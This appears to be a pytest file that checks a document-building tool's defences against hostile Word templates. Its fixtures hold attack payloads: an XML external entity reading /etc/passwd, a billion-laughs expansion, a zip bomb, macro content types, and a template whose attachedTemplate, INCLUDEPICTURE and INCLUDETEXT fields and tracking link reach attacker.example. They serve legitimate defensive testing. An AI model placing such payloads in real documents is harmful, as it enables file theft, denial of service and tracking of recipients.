"""Hostile Word templates: every broken or hostile .dotx is one E603 line, never a traceback, and
nothing in a template that reaches outside the document gets into the .docx files sent to participants."""

from __future__ import annotations

import io
import os
import re
import shutil
import zipfile

import pytest

from conftest import ROOT
from werkvorm_dsl.app.cli import main
from werkvorm_dsl.output import word_template

WERKVORM = ROOT / "formats" / "intervisie-participatie.werkvorm"
SETTINGS_RELS = "word/_rels/settings.xml.rels"
REMOTE = "file://attacker.example/share/t.dotx"
ENTITY_FILE = '<!DOCTYPE w:styles [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE w:document [<!ENTITY a "hahahahahahahahahaha">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
    + "]>"
)


def default_parts() -> dict[str, bytes]:
    import docx

    path = os.path.join(os.path.dirname(docx.__file__), "templates", "default.docx")
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def as_template(parts: dict[str, bytes]) -> dict[str, bytes]:
    """The parts as Word saves a .dotx: only the main part's content type differs."""
    changed = dict(parts)
    changed["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        word_template.DOCUMENT_TYPE, word_template.TEMPLATE_TYPE
    )
    return changed


def zipped(parts: dict[str, bytes], extra: list[tuple[str, bytes]] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        for name, data in extra:
            archive.writestr(name, data)
    return out.getvalue()


def with_part(name: str, data: bytes) -> bytes:
    return zipped({**as_template(default_parts()), name: data})


def with_doctype(name: str, doctype: str, body: str = "") -> bytes:
    """The part `name` with a DTD before its root (and `body` as text of a new first element)."""
    parts = as_template(default_parts())
    text = parts[name].decode("utf-8")
    declaration_end = text.index("?>") + 2
    text = text[:declaration_end] + doctype + text[declaration_end:]
    if body:
        text = re.sub(r"(<w:body>)", rf"\1<w:p><w:r><w:t>{body}</w:t></w:r></w:p>", text, count=1)
    parts[name] = text.encode("utf-8")
    return zipped(parts)


def in_utf16(name: str, doctype: str) -> bytes:
    """The part with a DTD, stored as UTF-16: a look for '<!DOCTYPE' in its bytes does not see it."""
    parts = as_template(default_parts())
    text = parts[name].decode("utf-8").replace("encoding='UTF-8'", "encoding='UTF-16'")
    declaration_end = text.index("?>") + 2
    parts[name] = (text[:declaration_end] + doctype + text[declaration_end:]).encode("utf-16")
    return zipped(parts)


def without(name: str) -> bytes:
    parts = as_template(default_parts())
    del parts[name]
    return zipped(parts)


def many_entries() -> bytes:
    extra = [(f"customXml/n{i}.bin", b"x") for i in range(word_template.MOST_ENTRIES + 1)]
    return zipped(as_template(default_parts()), extra)


def duplicate_entry() -> bytes:
    import warnings

    parts = as_template(default_parts())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name: that is the point
        return zipped(parts, [("word/styles.xml", b"<other/>")])


def macro_template() -> bytes:
    parts = as_template(default_parts())
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        word_template.TEMPLATE_TYPE, b"ms-word.template.macroEnabledTemplate.main+xml"
    )
    return zipped(parts)


def valid_template() -> bytes:
    return zipped(as_template(default_parts()))


# The class: every way a template can be broken or hostile to the computer, with what the one
# line must say. Each case is built from the real default template, changed in one place.
REFUSED = {
    "truncated": (lambda: valid_template()[:5000], "beschadigd of onvolledig"),
    "not a zip after its signature": (lambda: b"PK\x03\x04" + b"\x00" * 200, "beschadigd of onvolledig"),
    "no content types": (lambda: without("[Content_Types].xml"), "[Content_Types].xml ontbreekt"),
    "no package relationships": (lambda: without("_rels/.rels"), "_rels/.rels ontbreekt"),
    "no main document": (lambda: without("word/document.xml"), "niet als document openen"),
    "external entity": (lambda: with_doctype("word/styles.xml", ENTITY_FILE), "XML-afkortingen"),
    "external entity in UTF-16": (lambda: in_utf16("word/styles.xml", ENTITY_FILE), "XML-afkortingen"),
    "entity expansion": (lambda: with_doctype("word/document.xml", LAUGHS, "&i;"), "XML-afkortingen"),
    "a part that is not XML": (lambda: with_part("word/settings.xml", b"<w:settings"), "geen goed XML"),
    "unpacks past the limit": (
        lambda: with_part("word/media/bom.bin", b"\0" * (word_template.MOST_UNPACKED + 1)),
        "uitgepakt groter dan 24 MB",
    ),
    "XML past its limit": (
        lambda: with_part("customXml/groot.xml", b"<a>" + b" " * word_template.MOST_XML + b"</a>"),
        "uitgepakt groter dan 6 MB",
    ),
    "too many entries": (many_entries, "meer dan 400 onderdelen"),
    "an entry twice": (duplicate_entry, "twee keer"),
    "macros": (macro_template, "macro's"),
}


@pytest.fixture
def folder(tmp_path):
    shutil.copy(WERKVORM, tmp_path / "sessie.werkvorm")
    (tmp_path / "huisstijl.toml").write_text('word-sjabloon = "huis.dotx"\n', encoding="utf-8")
    return tmp_path


def build(folder, capsys, formats: str = "docx,odt") -> tuple[int, str]:
    code = main(["build", "--to", str(folder / "uit"), "--formaten", formats, str(folder / "sessie.werkvorm")])
    return code, capsys.readouterr().err


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_a_broken_or_hostile_template_is_one_e603_line(folder, capsys, case):
    make, said = REFUSED[case]
    (folder / "huis.dotx").write_bytes(make())
    code, err = build(folder, capsys)
    lines = err.strip().splitlines()
    assert code == 2 and len(lines) == 1, err
    assert "fout[E603]" in lines[0] and said in lines[0] and "Tip:" in lines[0], lines[0]
    assert "Traceback" not in err and not (folder / "uit" / "sessie").exists()


def test_the_template_s_compressed_size_is_small_for_the_bomb(folder):
    """The bomb case is the one the issue measured: a small file that unpacks past the limit."""
    bomb = REFUSED["unpacks past the limit"][0]()
    assert len(bomb) < 2_000_000 / 20


def test_a_valid_template_builds(folder, capsys):
    (folder / "huis.dotx").write_bytes(valid_template())
    code, err = build(folder, capsys)
    assert code in (0, 1) and "fout[" not in err, err
    assert (folder / "uit" / "sessie" / "deelnemers.docx").is_file()


def reaching_out_template() -> bytes:
    """A template with every remote technique the issue names: an attached template with an
    external target, an external image and hyperlink in a footer, and fields that fetch."""
    parts = as_template(default_parts())
    settings = parts["word/settings.xml"].decode()
    parts["word/settings.xml"] = re.sub(
        r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT"/>', settings, count=1
    ).encode()
    parts[SETTINGS_RELS] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdT" Type="{word_template.ATTACHED_TEMPLATE}" Target="{REMOTE}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    r = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    parts["word/footer1.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:ftr {w} {r}><w:p>'
        '<w:hyperlink r:id="rIdL"><w:r><w:t>intranet</w:t></w:r></w:hyperlink>'
        "<w:fldSimple w:instr=' INCLUDEPICTURE \"http://attacker.example/p.png\" \\d '><w:r><w:t>x</w:t></w:r>"
        "</w:fldSimple>"
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCL</w:instrText></w:r>'
        '<w:r><w:instrText>UDETEXT "\\\\\\\\attacker.example\\\\s\\\\a.docx"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>y</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        "</w:p></w:ftr>"
    ).encode()
    parts["word/_rels/footer1.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rIdL" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"'
        b' Target="http://attacker.example/track" TargetMode="External"/>'
        b"</Relationships>"
    )
    rels = parts["word/_rels/document.xml.rels"].decode()
    parts["word/_rels/document.xml.rels"] = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdF" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/footer"'
        ' Target="footer1.xml"/></Relationships>',
    ).encode()
    types = parts["[Content_Types].xml"].decode()
    parts["[Content_Types].xml"] = types.replace(
        "</Types>",
        '<Override PartName="/word/footer1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.footer+xml"/></Types>',
    ).encode()
    document = parts["word/document.xml"].decode()
    parts["word/document.xml"] = document.replace(
        '<w:pgSz w:w="12240"', '<w:footerReference w:type="default" r:id="rIdF"/><w:pgSz w:w="12240"'
    ).encode()
    return zipped(parts)


OUTWARD = re.compile(r'TargetMode="External"|attachedTemplate|INCLUDEPICTURE|INCLUDETEXT|attacker\.example')


def office_xml(folder) -> dict[str, str]:
    """The XML of every .docx and .odt the build wrote, by file and part."""
    found = {}
    for path in sorted((folder / "uit" / "sessie").iterdir()):
        if path.suffix in (".docx", ".odt"):
            with zipfile.ZipFile(path) as archive:
                for name in archive.namelist():
                    if name.endswith((".xml", ".rels")):
                        found[f"{path.name}:{name}"] = archive.read(name).decode("utf-8")
    return found


def test_nothing_in_a_template_reaches_outside_any_office_document(folder, capsys):
    (folder / "huis.dotx").write_bytes(reaching_out_template())
    code, err = build(folder, capsys)
    assert code in (0, 1) and "fout[" not in err, err
    parts = office_xml(folder)
    assert {"deelnemers.docx", "uitnodiging.docx", "draaiboek.docx"} <= {key.split(":")[0] for key in parts}
    assert any("intranet" in text for text in parts.values()), "the footer's own text stays"
    assert any(" PAGE " in text for text in parts.values()), "the footer's page number stays"
    outward = {key: OUTWARD.findall(text) for key, text in parts.items() if OUTWARD.search(text)}
    assert not outward, outward


def test_the_cleaning_keeps_no_dangling_relationship(folder):
    """A dropped relationship leaves no id behind that Word would look for (it would call the file damaged)."""
    from lxml import etree

    cleaned = word_template.cleaned_template(reaching_out_template())
    with zipfile.ZipFile(io.BytesIO(cleaned)) as archive:
        footer = etree.fromstring(archive.read("word/footer1.xml"))
    named = [value for element in footer.iter() for key, value in element.attrib.items() if "relationships" in key]
    assert named == []


def test_an_author_s_own_link_is_the_only_external_target(folder, capsys):
    """The hand-out may link where the author wrote a link (http, https, mailto): those are the
    only external relationships, and they are hyperlinks."""
    text = (folder / "sessie.werkvorm").read_text(encoding="utf-8")
    (folder / "sessie.werkvorm").write_text(text.replace("\nSESSIE", "\nMeer: https://voorbeeld.nl/meer\n\nSESSIE", 1))
    (folder / "huis.dotx").write_bytes(reaching_out_template())
    build(folder, capsys)
    for key, xml in office_xml(folder).items():
        for relation in re.findall(r"<Relationship [^>]*TargetMode=\"External\"[^>]*>", xml):
            assert "/hyperlink" in relation and 'Target="https://voorbeeld.nl/meer"' in relation, (key, relation)


def test_the_template_is_read_once_per_build(folder, capsys, monkeypatch):
    calls = []
    real = word_template._unpacked
    monkeypatch.setattr(word_template, "_unpacked", lambda content: calls.append(1) or real(content))
    word_template.cleaned_template.cache_clear()
    (folder / "huis.dotx").write_bytes(valid_template())
    build(folder, capsys)
    assert calls == [1]
